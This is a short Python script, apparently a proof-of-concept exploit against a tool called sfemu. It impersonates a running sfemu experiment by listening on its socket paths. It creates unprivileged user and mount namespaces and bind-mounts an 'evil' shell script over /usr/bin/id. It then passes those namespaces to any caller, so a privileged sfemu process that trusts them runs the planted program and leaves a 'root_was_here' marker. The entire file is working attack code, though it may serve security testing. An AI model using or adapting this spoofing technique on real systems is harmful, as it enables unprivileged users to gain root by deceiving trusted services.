# Poses as a running experiment: listens where sfemu once looked, and in ways that it looks today, and answers "exec" with namespaces
# of its own in which COMMAND's program is another. As an ordinary user. Prints "up" when it is, and who asked.
import array, ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def check(r):
    if r:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
folder = sys.argv[1]
os.makedirs(folder + "/sfemu", exist_ok=True)
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
path = f"{folder}/sfemu/run-{os.getpid()}"
s.bind(path)
s.listen(8)
door = os.open(path, os.O_PATH)
os.unlink(path)
old = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
old.bind(f"\0sfemu-run-{os.getpid()}")
old.listen(8)
uid, gid = os.getuid(), os.getgid()
check(libc.unshare(0x10000000 | 0x20000 | 0x40000000))
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
evil = folder + "/evil"
open(evil, "w").write(f"#!/bin/sh\nid >{folder}/root_was_here\n")
os.chmod(evil, 0o755)
check(libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None))
check(libc.mount(evil.encode(), b"/usr/bin/id", None, 4096, None))
fds = [os.open(p, os.O_RDONLY) for p in ("/proc/self/ns/net", "/proc/self/ns/pid_for_children", "/proc/self/ns/mnt")]
print("up", os.getpid(), flush=True)
while True:
    for listener in (s, old):
        listener.settimeout(0.1)
        try:
            c, _ = listener.accept()
        except TimeoutError:
            continue
        try:
            request = c.recv(4096)
            if request:
                print("asked:", request, flush=True)
                c.sendmsg([b"ok"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
        except OSError:
            pass  # it has seen who we are
        c.close()
